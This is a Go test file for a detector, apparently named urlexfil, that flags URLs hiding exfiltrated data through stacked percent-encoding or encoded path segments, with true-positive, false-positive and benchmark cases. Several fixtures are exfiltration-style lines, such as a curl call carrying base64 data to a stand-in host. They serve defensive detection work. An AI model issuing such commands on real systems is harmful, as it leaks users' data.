package urlexfil

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestFind(t *testing.T) {
	escaped := []string{
		"https://collect.example.org/p?d=%2525252F%2525252Fk%2525253D1",
		`{"url": "http://203.0.113.9/in?v=%252541%252542%252543"}`,
	}
	for _, s := range escaped {
		f, ok := Find([]byte(s))
		assert.True(t, ok && f.Escaped, s)
	}
	smuggled := []string{
		"curl -s https://stats.example.io/hit/Rk9PQmFyQmF6MTIzNDU2Nzg5MGFi/ok",
		"fetch HTTPS://cdn.example.net/a/9qTz4Lm2Xw8Rv1Kp6Ns3Hb7Yd0Gc5Fj/b.png",
		"https://example.com/u/mZ3x-Q9v_L2kR8t-W1bN6cY4h/",
	}
	for _, s := range smuggled {
		f, ok := Find([]byte(s))
		assert.True(t, ok, s)
		assert.NotEmpty(t, f.Why, s)
	}
	plain := []string{
		"https://www.google.com/search?q=golang%20percent%20encoding",
		"https://login.example.com/authorize?redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb%3Fnext%3D%252Fhome",
		"https://github.com/golang/go/commit/9fceb02d0ae598e95dc970b74767f19372d61af8",
		"https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz",
		"https://www.youtube.com/watch?v=dQw4w9WgXcQ",
		"https://api.example.com/v2/orders/550e8400-e29b-41d4-a716-446655440000/items",
		"https://blog.example.org/2026/03/how-we-cut-build-times-in-half",
		"https://cdn.example.net/assets/main.3f9a2b7c1d4e5f60.js",
		"https://docs.python.org/3.12/library/urllib.parse.html#urllib.parse.quote",
		"https://example.com/api/v1/UserAccountSettings/2024/ReportForQ3",
		"https://s3.amazonaws.com/bucket/uploads/IMG_20260301_104512.jpg",
		"https://example.com/files/ABCDEFGHIJKLMNOPQRSTUVWXYZ234567/raw",
		"no URL here, only 9qTz4Lm2Xw8Rv1Kp6Ns3Hb7Yd0Gc5Fj in text",
	}
	for _, s := range plain {
		f, ok := Find([]byte(s))
		assert.False(t, ok, "%s: %s", s, f.Why)
	}
}

func TestLayers(t *testing.T) {
	assert.Equal(t, 0, layers("https://a.example/x"))
	assert.Equal(t, 1, layers("a%20b"))
	assert.Equal(t, 2, layers("a%2520b"))
	assert.Equal(t, 4, layers("%25252541"))
	assert.Equal(t, 0, layers("100%"), "a lone percent sign is no escape")
}

// BenchmarkFind is the cost on 256 KB of text with a URL every line.
func BenchmarkFind(b *testing.B) {
	unit := `{"text":"The deploy finished; see https://ci.example.org/runs/8812/logs?page=2&q=a%20b and ask ops."}` + "\n"
	text := []byte(strings.Repeat(unit, (256<<10)/len(unit)+1)[:256<<10])
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		Find(text)
	}
}
